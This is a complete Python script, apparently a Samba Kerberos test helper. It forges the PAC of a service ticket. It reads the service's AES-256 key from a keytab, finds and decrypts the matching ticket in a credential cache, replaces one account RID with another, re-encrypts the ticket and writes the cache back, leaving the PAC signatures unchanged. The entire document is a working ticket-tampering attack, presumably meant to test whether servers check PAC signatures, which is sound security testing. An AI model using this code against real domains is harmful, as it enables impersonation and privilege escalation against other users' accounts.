"""Changes the account in the PAC of a service ticket, as only somebody with the service's key can, and leaves the
PAC's signatures as they were.

    forge_pac.py CCACHE KEYTAB OLD NEW     the account's number (the last part of its SID)
"""

import struct
import subprocess
import sys

from samba.tests.krb5 import kcrypto

ccache, keytab, old, new = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])

# AES-256 of the keytab: "1 HTTP/… (aes256-cts-hmac-sha1-96) (0x…)".
listed = subprocess.run(
    ["klist", "-k", "-K", "-e", keytab], check=True, capture_output=True, text=True
).stdout
line = next(line for line in listed.splitlines() if "aes256-cts" in line)
key = kcrypto.Key(kcrypto.Enctype.AES256, bytes.fromhex(line.split("(0x")[1].rstrip(") ")))

with open(ccache, "rb") as file:
    cache = file.read()

# The one encrypted part that this key opens: OCTET STRINGs with two bytes of length.
for at in range(len(cache) - 4):
    if cache[at : at + 2] != b"\x04\x82":
        continue
    length = struct.unpack(">H", cache[at + 2 : at + 4])[0]
    cipher = cache[at + 4 : at + 4 + length]
    try:
        plain = kcrypto.decrypt(key, 2, cipher)
        break
    except Exception:
        continue
else:
    sys.exit("no ticket of this key")

# Its number and its group's, Domain Users; in the names' part, the end of the SID.
before, after = struct.pack("<I", old), struct.pack("<I", new)
users = struct.pack("<I", 513)
if plain.count(before + users) != 1:
    sys.exit("the number is not in the PAC")
plain = plain.replace(before, after)
cipher = kcrypto.encrypt(key, 2, plain)
if len(cipher) != length:
    sys.exit("another length")
with open(ccache, "wb") as file:
    file.write(cache[: at + 4] + cipher + cache[at + 4 + length :])
